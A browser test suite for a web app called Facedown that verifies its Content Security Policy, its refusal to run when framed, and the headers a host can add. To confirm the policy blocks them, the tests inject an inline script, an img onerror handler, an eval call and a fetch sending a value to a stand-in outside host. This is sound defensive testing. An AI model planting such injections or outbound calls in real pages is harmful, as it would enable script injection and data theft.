// The content security policy, headers of hosts, and being embedded in other pages.

import { readFileSync } from "node:fs";
import { expect, openHome, test, waitUntilUsable } from "./fixtures.mjs";

test.describe("what it forbids", () => {
  test.use({ expected: /policy: |Content Security Policy/ });

  test("the policy comes first and names no other host, nothing is inline, no slipped-in script runs, and nothing can be sent elsewhere", async ({ page }) => {
    await openHome(page);
    const html = await (await page.request.get("./")).text();
    const at = html.indexOf("Content-Security-Policy");
    expect(at).toBeGreaterThan(0);
    for (const tag of ["<link", "<script", "<img", "<style"]) {
      const first = html.indexOf(tag);
      expect(first === -1 || first > at, tag).toBe(true);
    }
    const policy = await page.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content");
    const directives = Object.fromEntries(policy.split(";").map((part) => part.trim().split(/ (.*)/)));
    expect(directives).toEqual({
      "default-src": "'none'",
      "script-src": "'self' 'wasm-unsafe-eval'",
      "style-src": "'self'",
      "img-src": "'self' data:",
      "connect-src": "'self'",
      "font-src": "'self'",
      "manifest-src": "'self'",
      "worker-src": "'self'",
      "base-uri": "'none'",
      "form-action": "'none'",
    });
    expect(await page.locator("style, [style], script:not([src])").count()).toBe(0);
    const handlers = await page.evaluate(() =>
      [...document.querySelectorAll("*")].flatMap(({ attributes }) =>
        [...attributes].map(({ name }) => name).filter((name) => name.startsWith("on")),
      ),
    );
    expect(handlers).toEqual([]);

    await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "globalThis.slippedIn = true";
      document.body.append(script);
      document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='globalThis.slippedIn = true'>");
    });
    // In a task, since code that the test evaluates directly is exempt.
    const evaluated = () =>
      new Promise((done) =>
        setTimeout(() => {
          try {
            done(Function("return true")());
          } catch (error) {
            done(error.name);
          }
        }),
      );
    const refused = await page.evaluate(evaluated);
    expect(refused).toBe("EvalError");
    expect(await page.evaluate(() => globalThis.slippedIn)).toBeUndefined();
    const failed = await page.evaluate(() =>
      fetch("https://elsewhere.example/?hand=Kc").then(
        () => "sent",
        (error) => error.name,
      ),
    );
    expect(failed).toBe("TypeError");
  });
});

async function openFramed(page, site) {
  const body = `<!doctype html><title>Another page</title><link rel="icon" href="data:,"><iframe title="within" src="${site}"></iframe>`;
  await page.route("**/another.html", (route) => route.fulfill({ contentType: "text/html", body }));
  await page.goto("./another.html");
  return page.frameLocator("iframe");
}

test("within another page it does not start, and offers to open on its own", async ({ page, context }) => {
  const within = await openFramed(page, "./#/settings");
  await expect(within.getByRole("heading", { level: 1, name: "Facedown runs on its own" })).toBeVisible();
  await expect(within.locator("#app")).toHaveCount(0);
  expect(await page.frames()[1].evaluate(() => facedown.wasm)).toBeNull();
  const [ownTab] = await Promise.all([context.waitForEvent("page"), within.getByRole("link", { name: "Open it on its own" }).click()]);
  await waitUntilUsable(ownTab);
  await expect(ownTab).toHaveURL(/#\/settings$/);
});

function recommendedHeaders() {
  const [, ...lines] = readFileSync(new URL("../docs/hosting/_headers", import.meta.url), "utf8").trim().split("\n");
  return Object.fromEntries(lines.map((line) => line.trim().split(/: (.*)/).slice(0, 2)));
}

test.describe("with the headers that a host can add", () => {
  test.use({ expected: /frame-ancestors|X-Frame-Options/i });

  test("the page works, and no other page can show it", async ({ page, host }) => {
    const { url } = await host({ headers: recommendedHeaders() });
    await openHome(page, url);
    await openFramed(page, url);
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
  });
});
